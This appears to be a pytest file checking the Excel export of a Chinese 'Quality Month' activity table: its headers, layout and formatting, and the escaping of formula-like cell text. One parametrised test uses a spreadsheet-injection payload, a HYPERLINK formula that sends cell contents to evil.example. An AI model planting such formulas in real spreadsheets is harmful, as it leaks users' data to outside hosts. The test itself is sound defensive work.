"""The Excel table, read back with openpyxl."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from qmclient.core.sheetsafe import FORMULA_STARTS, neutralise
from qmclient.export.xlsx_table import HEADERS
from qmclient.services import drafts
from qmclient.services.context import AppContext
from qmclient.services.export import ExportOptions, run


def _table(ctx: AppContext, sid: int, folder: Path):  # type: ignore[no-untyped-def]
    target = folder / "表.xlsx"
    run(ctx, sid, ExportOptions(xlsx=target))
    return load_workbook(target).active


def test_layout_and_rows(ctx: AppContext, sample_sid: int, tmp_path: Path) -> None:
    ws = _table(ctx, sample_sid, tmp_path)
    assert ws["A1"].value == "2022年“质量月”主要活动情况表"
    assert tuple(c.value for c in ws[2]) == HEADERS
    assert HEADERS == (
        "序号", "单位", "活动名称", "重点领域", "时间", "地点", "参与人数", "活动内容", "成效",
        "联系人及电话",
    )  # fmt: skip
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["H"].width == 48
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 3
    first = rows[0]
    assert first[0] == 1
    assert first[1] == "济南某某精密机械有限公司（历下区）"
    assert first[2] == "2022年“质量月”活动启动仪式"
    assert first[3] == "广泛开展质量主题宣传活动"
    assert first[4] == "2022年9月1日"
    assert first[6] == 260 and isinstance(first[6], int)
    assert first[9] == "张三 0531-82568852"
    assert rows[1][4] == "2022年9月13日—15日"
    assert ws["H3"].alignment.wrap_text
    assert ws.print_title_rows == "$1:$2"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_text_is_neutralised(ctx: AppContext, tmp_path: Path, start: str) -> None:
    sid = drafts.create_draft(ctx)
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"点我")'
    drafts.add_activity(
        ctx, sid, {"focus_area": "publicity", "name": payload, "place": "=1+1", "results": "-5"}
    )
    ws = _table(ctx, sid, tmp_path)
    name, place, results = ws["C3"], ws["F3"], ws["I3"]
    for cell in (name, place, results):
        assert cell.data_type == "s"
        assert cell.value.startswith("'") or not cell.value.startswith(FORMULA_STARTS)
    # trimmed text loses a leading tab or CR; anything else keeps it behind a quote
    assert name.value in ("'" + payload, payload.strip())
    assert place.value == "'=1+1" and results.value == "'-5"


def test_neutralise_leaves_ordinary_text() -> None:
    assert neutralise("质量月启动仪式") == "质量月启动仪式"
    assert neutralise("QC 小组 = 12") == "QC 小组 = 12"
    assert neutralise("a\x00b") == "ab"
    assert neutralise("\tx") == "'\tx" and neutralise("\r=1") == "'\r=1"
